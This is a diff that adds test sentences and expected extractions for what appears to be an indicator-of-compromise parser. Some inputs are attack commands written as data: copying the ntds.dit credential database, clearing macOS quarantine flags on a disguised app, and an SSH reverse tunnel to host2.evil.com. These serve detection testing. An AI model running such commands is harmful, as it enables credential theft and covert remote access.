@@ -103,4 +103,33 @@ export const KNOWN_SENTENCES: Readonly<Record<string, readonly Sentence[]>> = {
     ['nginx 1.18.0.2 and 1[.]18[.]0[.]2', 'ipv4 1.18.0.2'],
     ['5.6.7.9 runs version 5.6.7.8', 'ipv4 5.6.7.9'],
   ],
+  'paths of the kernel and of macOS': [
+    ['copy \\\\?\\GLOBALROOT\\Device\\x\\ntds.dit C:\\x', 'windows-path \\\\?\\GLOBALROOT\\Device\\x\\ntds.dit', 'windows-path C:\\x'],
+    ['\\\\?\\C:\\a.dll', 'windows-path C:\\a.dll'],
+    ['xattr -c /Users/Shared/Internal PDF Viewer.app', 'unix-path /Users/Shared/Internal PDF Viewer.app'],
+    ['cp /Users/Shared/x Then the Viewer.apps', 'unix-path /Users/Shared/x'],
+  ],
+  'agents beside other fields': [
+    ['User agents: python-requests/2.25.1; x', 'user-agent python-requests/2.25.1'],
+    ['User-Agent: curl/7.29.0 X-Api-Version: y', 'user-agent curl/7.29.0'],
+    [
+      '2022-07-21 02:12:11 W3SVC1 10.1.1.20 POST /a - 443 - 203.0.113.7 curl/8.1.2 - 200 0 0 93',
+      'ipv4 10.1.1.20',
+      'ipv4 203.0.113.7',
+      'user-agent curl/8.1.2',
+    ],
+    ['install curl/8.1.2 - 3 times'],
+  ],
+  'names behind a number sign or a dot': [
+    ['Приказ №17.exe', 'filename Приказ №17.exe'],
+    ['Attachment: Invoice №44.pdf', 'filename Invoice №44.pdf'],
+    ['see № 44.pdf', 'filename 44.pdf'],
+    [`${MD5}\t.hidden.dylib\n.bash_x.sh`, `md5 ${MD5}`, 'filename .hidden.dylib', 'filename .bash_x.sh'],
+    ['the end. .hidden.sh', 'filename hidden.sh'],
+    ['伪装成学习资料.zip的', 'filename 学习资料.zip'],
+  ],
+  'who logs in to a machine behind options': [
+    ['ssh -i id_rsa -R 2222:localhost:22 tunnel@host2.evil.com -p 443', 'hostname host2.evil.com'],
+    ['by ssh, write to tunnel@evil.com', 'email tunnel@evil.com'],
+  ],
 };
